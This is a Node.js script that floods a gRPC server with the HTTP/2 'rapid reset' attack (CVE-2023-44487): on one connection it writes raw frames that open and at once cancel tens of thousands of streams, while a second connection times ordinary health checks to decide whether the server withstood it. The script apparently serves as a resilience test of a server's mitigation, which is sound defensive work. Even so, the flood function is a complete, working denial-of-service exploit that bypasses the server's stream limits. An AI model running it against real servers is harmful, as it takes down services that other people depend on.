// HTTP/2 "rapid reset" (CVE-2023-44487) against a gRPC server, with an
// ordinary client watching: on one connection, opens and at once resets
// (RST_STREAM CANCEL) many streams, as fast as the socket takes them; on a
// second connection, a grpc.health.v1.Health/Check call after another, during
// the flood and after it. Prints the figures (streams sent, what the server
// answered on the flood connection, the ordinary calls and their latencies)
// and exits 1 if an ordinary call failed or none was made during the flood.
//
//   node rapid_reset_flood.js --target=127.0.0.1:50051 [--streams=20000]
//                             [--after_ms=1000] [--call_timeout_ms=10000]
//
// The flood is written as raw frames on a TCP socket (each stream: HEADERS
// of a Health/Check call, then RST_STREAM CANCEL), because an HTTP/2 library
// would drop the HEADERS of a stream reset before they were sent, and would
// respect the server's MAX_CONCURRENT_STREAMS; the attack does neither. The
// flood ends, from the server's point of view, when it answers a PING sent
// after the last frame: HTTP/2 processes a connection's frames in order.
// Plaintext (h2c, prior knowledge) only. Node's own modules only.
'use strict';

const http2 = require('http2');
const net = require('net');

function parseArgs(argv) {
  const args = {streams: 20000, after_ms: 1000, call_timeout_ms: 10000};
  for (const arg of argv) {
    const match = /^--([a-z_]+)=(.*)$/.exec(arg);
    if (!match) throw new Error(`unknown argument ${arg}`);
    args[match[1]] = match[1] === 'target' ? match[2] : Number(match[2]);
  }
  if (!args.target) throw new Error('--target=host:port is required');
  return args;
}

// --- raw HTTP/2 frames -------------------------------------------------------

const {PREFACE, TYPE, FLAG_ACK, FLAG_END_HEADERS, frame, literal} =
    require('./support/raw_http2.js');
const CANCEL = 0x8;

function healthCheckHeaders(authority) {
  return Buffer.concat([
    Buffer.from([0x83]),                                // :method POST
    Buffer.from([0x86]),                                // :scheme http
    Buffer.from([0x04]), literal('/grpc.health.v1.Health/Check'),  // :path
    Buffer.from([0x01]), literal(authority),            // :authority
    Buffer.from([0x00]), literal('content-type'), literal('application/grpc'),
    Buffer.from([0x00]), literal('te'), literal('trailers'),
  ]);
}

// Reads frames from the server on the flood connection: acknowledges its
// SETTINGS, answers its PINGs, counts the rest. Calls onPingAck(payload).
function frameReader(socket, counts, onPingAck) {
  let pending = Buffer.alloc(0);
  return (chunk) => {
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      const type = pending[3];
      const flags = pending[4];
      const payload = pending.subarray(9, 9 + length);
      pending = pending.subarray(9 + length);
      if (type === TYPE.SETTINGS && !(flags & FLAG_ACK)) {
        for (let i = 0; i + 6 <= payload.length; i += 6) {
          if (payload.readUInt16BE(i) === 0x3) {
            counts.server_max_concurrent_streams = payload.readUInt32BE(i + 2);
          }
        }
        socket.write(frame(TYPE.SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
      } else if (type === TYPE.PING && !(flags & FLAG_ACK)) {
        socket.write(frame(TYPE.PING, FLAG_ACK, 0, payload));
      } else if (type === TYPE.PING) {
        onPingAck(payload);
      } else if (type === TYPE.GOAWAY) {
        counts.goaway = {last_stream_id: payload.readUInt32BE(0) & 0x7fffffff,
                         error_code: payload.readUInt32BE(4)};
      }
      const name = Object.keys(TYPE).find((key) => TYPE[key] === type) ||
                   `type_${type}`;
      counts.frames_received[name] = (counts.frames_received[name] || 0) + 1;
    }
  };
}

// Opens `streams` streams and resets each at once. Resolves with figures
// when the server has read them all (PING answered) or closed the connection.
function flood(host, port, streams) {
  return new Promise((resolve) => {
    const counts = {streams_sent: 0, frames_received: {}, goaway: null,
                    server_max_concurrent_streams: null, closed_by_server: false};
    const started = process.hrtime.bigint();
    let written_ms = null;
    let done = false;
    const socket = net.connect({host, port});
    const finish = () => {
      if (done) return;
      done = true;
      counts.write_ms = written_ms;
      counts.flood_ms = Number(process.hrtime.bigint() - started) / 1e6;
      socket.destroy();
      resolve(counts);
    };
    socket.on('data', frameReader(socket, counts, finish));
    socket.on('error', (error) => { counts.socket_error = error.code; finish(); });
    socket.on('close', () => { counts.closed_by_server = !done; finish(); });
    socket.on('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      const block = healthCheckHeaders(`${host}:${port}`);
      const rst = Buffer.alloc(4);
      rst.writeUInt32BE(CANCEL, 0);
      let nextId = 1;
      const batch = 500;
      const writeSome = () => {
        while (!done && counts.streams_sent < streams) {
          const frames = [];
          const n = Math.min(batch, streams - counts.streams_sent);
          for (let i = 0; i < n; i++, nextId += 2) {
            frames.push(frame(TYPE.HEADERS, FLAG_END_HEADERS, nextId, block));
            frames.push(frame(TYPE.RST_STREAM, 0, nextId, rst));
          }
          counts.streams_sent += n;
          if (!socket.write(Buffer.concat(frames))) {
            socket.once('drain', writeSome);
            return;
          }
        }
        if (done) return;
        written_ms = Number(process.hrtime.bigint() - started) / 1e6;
        socket.write(frame(TYPE.PING, 0, 0, Buffer.from('floodend')));
      };
      writeSome();
    });
  });
}

// --- the ordinary client -------------------------------------------------------

// One grpc.health.v1.Health/Check on `session`; resolves with
// {ok, ms, detail}. ok means grpc-status 0 and status SERVING (bytes 08 01).
function healthCheck(session, timeoutMs) {
  return new Promise((resolve) => {
    const start = process.hrtime.bigint();
    const elapsed = () => Number(process.hrtime.bigint() - start) / 1e6;
    let body = Buffer.alloc(0);
    let grpcStatus = null;
    let settled = false;
    const settle = (ok, detail) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      resolve({ok, ms: elapsed(), detail});
    };
    const timer = setTimeout(() => {
      settle(false, `no answer within ${timeoutMs} ms`);
      request.close(http2.constants.NGHTTP2_CANCEL);
    }, timeoutMs);
    const request = session.request({
      ':method': 'POST', ':path': '/grpc.health.v1.Health/Check',
      'content-type': 'application/grpc', te: 'trailers'});
    request.on('response', (headers) => {
      if (headers['grpc-status'] !== undefined) grpcStatus = headers['grpc-status'];
    });
    request.on('trailers', (trailers) => { grpcStatus = trailers['grpc-status']; });
    request.on('data', (chunk) => { body = Buffer.concat([body, chunk]); });
    request.on('error', (error) => settle(false, error.message));
    request.on('close', () => {
      const serving = body.length === 7 && body[0] === 0 &&
                      body.readUInt32BE(1) === 2 && body[5] === 0x08 &&
                      body[6] === 0x01;
      if (grpcStatus === '0' && serving) settle(true, 'SERVING');
      else settle(false, `grpc-status ${grpcStatus}, body ${body.toString('hex')}`);
    });
    // An empty HealthCheckRequest: not compressed, length 0.
    request.end(Buffer.from([0, 0, 0, 0, 0]));
  });
}

function summary(latencies) {
  if (latencies.length === 0) return 'none';
  const sorted = [...latencies].sort((a, b) => a - b);
  const at = (q) => sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))];
  return `n=${sorted.length} min=${sorted[0].toFixed(1)} ms ` +
         `median=${at(0.5).toFixed(1)} ms p99=${at(0.99).toFixed(1)} ms ` +
         `max=${sorted[sorted.length - 1].toFixed(1)} ms`;
}

async function main() {
  const args = parseArgs(process.argv.slice(2));
  const [host, portText] = args.target.split(':');
  const port = Number(portText);
  const session = http2.connect(`http://${args.target}`);
  session.on('error', (error) => console.log(`ordinary connection: ${error.message}`));
  const before = await healthCheck(session, args.call_timeout_ms);
  if (!before.ok) {
    console.log(`FAIL: the server does not answer before the flood: ${before.detail}`);
    process.exit(1);
  }

  const during = [];
  const after = [];
  const failures = [];
  let flooding = true;
  const floodDone = flood(host, port, args.streams).then((counts) => {
    flooding = false;
    return counts;
  });
  // Ordinary calls, one after another, while the flood lasts.
  while (flooding) {
    const result = await healthCheck(session, args.call_timeout_ms);
    (result.ok ? during : failures).push(result.ok ? result.ms : result.detail);
  }
  const counts = await floodDone;
  const afterUntil = Date.now() + args.after_ms;
  while (Date.now() < afterUntil) {
    const result = await healthCheck(session, args.call_timeout_ms);
    (result.ok ? after : failures).push(result.ok ? result.ms : result.detail);
  }
  session.close();

  console.log(`flood: ${counts.streams_sent} streams opened and reset on one ` +
              `connection; written in ${counts.write_ms === null ? '-' : counts.write_ms.toFixed(0)} ms, ` +
              `read by the server within ${counts.flood_ms.toFixed(0)} ms` +
              (counts.closed_by_server ? ' (the server closed the connection)' : ''));
  console.log(`flood: server's MAX_CONCURRENT_STREAMS ${counts.server_max_concurrent_streams}; ` +
              `frames from the server: ${JSON.stringify(counts.frames_received)}` +
              (counts.goaway ? `; GOAWAY ${JSON.stringify(counts.goaway)}` : '') +
              (counts.socket_error ? `; socket error ${counts.socket_error}` : ''));
  console.log(`ordinary calls during the flood: ${summary(during)}`);
  console.log(`ordinary calls after the flood:  ${summary(after)}`);
  if (failures.length > 0) {
    console.log(`FAIL: ${failures.length} ordinary call(s) failed, first: ${failures[0]}`);
    process.exit(1);
  }
  if (during.length === 0 || after.length === 0) {
    console.log('FAIL: no ordinary call was answered during or after the flood');
    process.exit(1);
  }
  console.log('PASS');
}

main().catch((error) => {
  console.log(`FAIL: ${error.stack}`);
  process.exit(1);
});
